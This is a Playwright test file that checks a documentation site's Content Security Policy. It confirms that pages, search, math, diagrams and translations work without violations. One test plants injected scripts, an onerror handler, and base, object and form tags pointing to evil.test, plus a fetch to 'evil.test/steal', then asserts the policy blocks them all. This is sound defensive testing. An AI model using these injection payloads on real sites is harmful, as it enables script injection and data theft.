import assert from 'node:assert/strict';
import type { Page } from '@playwright/test';
import { linkPackages, temporarySite } from '../support/sites.ts';
import { nightlyUnless, siteTest, test } from './support/test.ts';

/** What the policy has refused on a page, from now on: directive and what it was about. */
async function violationsOn(page: Page): Promise<() => Promise<readonly string[]>> {
  await page.addInitScript(() => {
    const found: string[] = [];
    Object.assign(window, { violations: found });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      found.push(`${effectiveDirective} ${blockedURI}`),
    );
  });
  return () => page.evaluate(() => Reflect.get(window, 'violations') as string[]);
}

test.describe('the policy that a site is sent with', { tag: '@build' }, () => {
  for (const route of ['/', '/docs/docsearch-v3', '/docs/what-is-docsearch', '/docs/legacy/faq', '/search?q=crawler']) {
    test(`allows ${route} and the search dialog to work`, {
      tag: nightlyUnless(route === '/docs/docsearch-v3'),
    }, async ({ page, open, url }) => {
      const { headers } = await fetch(url(route));
      assert.match(headers.get('content-security-policy') ?? '', /^default-src 'none'; script-src 'self' 'sha256-/);
      const violations = await violationsOn(page);
      await open(route);
      await page.keyboard.press('Control+k');
      const dialog = page.getByRole('dialog');
      await dialog.locator('input').fill('crawler');
      await dialog.getByRole('treeitem').first().waitFor();
      await page.keyboard.press('Enter');
      await dialog.waitFor({ state: 'detached' });
      await page.getByRole('heading', { level: 1 }).waitFor();
      assert.deepEqual(await violations(), []);
    });
  }

  test('stops what was planted', async ({ page, open, allowInConsole }) => {
    allowInConsole(/Content Security Policy|violates the following/);
    const violations = await violationsOn(page);
    await open('/docs/docsearch-v3');
    const ran = await page.evaluate(async () => {
      const plant = (html: string) => document.body.append(document.createRange().createContextualFragment(html));
      plant('<script>window.planted = "script"</script>');
      plant('<img src="data:image/png,nothing" alt="" onerror="window.planted = \'handler\'">');
      plant('<script src="https://evil.test/x.js"></script>');
      plant('<base href="https://evil.test/">');
      plant('<object data="https://evil.test/x.swf"></object>');
      plant('<form action="https://evil.test/" method="post"></form>');
      document.querySelector<HTMLFormElement>('form[action="https://evil.test/"]')?.submit();
      const asked = await fetch('https://evil.test/steal').catch(() => 'refused');
      // Later: what a test evaluates itself may.
      const evaluated = await new Promise(resolve => {
        setTimeout(() => {
          try {
            resolve(new Function('return 1')());
          } catch {
            resolve('refused');
          }
        });
      });
      return { asked, evaluated, planted: Reflect.get(window, 'planted'), base: document.baseURI };
    });
    assert.deepEqual([ran.asked, ran.evaluated, ran.planted], ['refused', 'refused', undefined]);
    assert.doesNotMatch(ran.base, /evil/);
    await page.waitForFunction(() => (Reflect.get(window, 'violations') as string[]).length >= 8);
    const refused = [...new Set((await violations()).map(text => text.split(' ')[0]))].sort();
    assert.deepEqual(refused, [
      'base-uri',
      'connect-src',
      'form-action',
      'object-src',
      'script-src',
      'script-src-attr',
      'script-src-elem',
    ]);
  });
});

const PACKAGES = ['katex', 'mermaid', 'rehype-katex', 'remark-math'];

const CONFIG = `
export default async () => ({
  title: 'Everything', url: 'https://every.test', baseUrl: '/base/',
  i18n: { defaultLocale: 'en', locales: ['en', 'fr'] },
  markdown: { mermaid: true },
  themes: ['@docusaurus/theme-mermaid'],
  headTags: [{ tagName: 'script', innerHTML: 'window.fromHead = true' }],
  scripts: ['/base/own.js'],
  contentSecurityPolicy: { 'connect-src': ['http://127.0.0.1:1'] },
  plugins: [() => ({ name: 'tags', injectHtmlTags: () => ({ postBodyTags: ['<script>window.fromPlugin = true</script>'] }) })],
  presets: [['classic', {
    blog: false,
    theme: { customCss: ['katex/dist/katex.min.css'] },
    docs: {
      routeBasePath: '/', sidebarPath: false,
      remarkPlugins: [(await import('remark-math')).default],
      rehypePlugins: [(await import('rehype-katex')).default],
    },
  }]],
  themeConfig: {
    colorMode: { respectPrefersColorScheme: true },
    announcementBar: { id: 'a', content: 'Hear, <b>hear</b>', isCloseable: true },
  },
});
`;

const PAGE = `---
slug: /
---

import Tabs from '@theme/Tabs';
import TabItem from '@theme/TabItem';
import Head from '@docusaurus/Head';

# Everything

<Head><script>{'window.fromPageHead = true'}</script></Head>
<script>{'window.fromPage = true'}</script>

<Tabs><TabItem value="one">First</TabItem><TabItem value="two">Second</TabItem></Tabs>

$a^2$

![dot](data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7)

<p style={{ color: 'rgb(1, 2, 3)' }} id="styled">Styled</p>

<details><summary>More</summary>Hidden</details>

\`\`\`mermaid
graph LR; A-->B;
\`\`\`

[Other](./other.md)
`;

const everySite = siteTest(() => {
  const site = temporarySite({
    'docusaurus.config.js': CONFIG,
    'package.json': '{ "type": "module" }',
    'docs/index.mdx': PAGE,
    'docs/other.md': '# Other\n\nAnother page.\n',
    'i18n/fr/docusaurus-plugin-content-docs/current/other.md':
      "# Autre\n\nUne autre page.\n<script>{'window.fromFrench = true'}</script>\n",
    'static/own.js': 'window.fromFile = true;\n',
    'static/demo/index.html':
      '<!doctype html><title>Demo</title><p id="demo"></p><script>demo.textContent = "ran"</script>\n',
  });
  linkPackages(site.siteDir, PACKAGES);
  return site;
});

everySite.describe('a site with all that pages may bring', { tag: '@build' }, () => {
  everySite('works under its policy', async ({ page, open }) => {
    const violations = await violationsOn(page);
    await open('/');
    const ran = ['fromHead', 'fromPlugin', 'fromFile', 'fromPage', 'fromPageHead'];
    assert.deepEqual(await page.evaluate(names => names.filter(name => !Reflect.get(window, name)), ran), []);
    await page.getByRole('tab', { name: 'two' }).click();
    await page.getByText('Second').waitFor();
    await page.getByText('More').click();
    await page.getByText('Hidden').waitFor();
    await page.locator('.katex-html').first().waitFor();
    await page.locator('svg[id^="mermaid"], .docusaurus-mermaid-container svg').first().waitFor();
    assert.equal(await page.locator('#styled').evaluate(element => getComputedStyle(element).color), 'rgb(1, 2, 3)');
    assert.ok(await page.getByRole('img', { name: 'dot' }).evaluate(image => (image as HTMLImageElement).naturalWidth));
    await page.getByRole('button', { name: /mode/i }).first().click();
    await page.keyboard.press('Control+k');
    const dialog = page.getByRole('dialog');
    await dialog.locator('input').fill('another');
    await dialog.getByRole('treeitem').first().waitFor();
    await page.keyboard.press('Enter');
    await page.getByRole('heading', { level: 1, name: 'Other' }).waitFor();
    assert.deepEqual(await violations(), []);
  });

  everySite('works in its other language, which the same policy holds for', async ({ page, open }) => {
    const violations = await violationsOn(page);
    await open('/fr/other');
    assert.ok(await page.evaluate(() => Reflect.get(window, 'fromFrench')));
    assert.deepEqual(await violations(), []);
  });

  everySite('has its static documents work, too', async ({ page, url }) => {
    const violations = await violationsOn(page);
    await page.goto(url('/demo/'));
    assert.equal(await page.locator('#demo').textContent(), 'ran');
    assert.deepEqual(await violations(), []);
  });
});
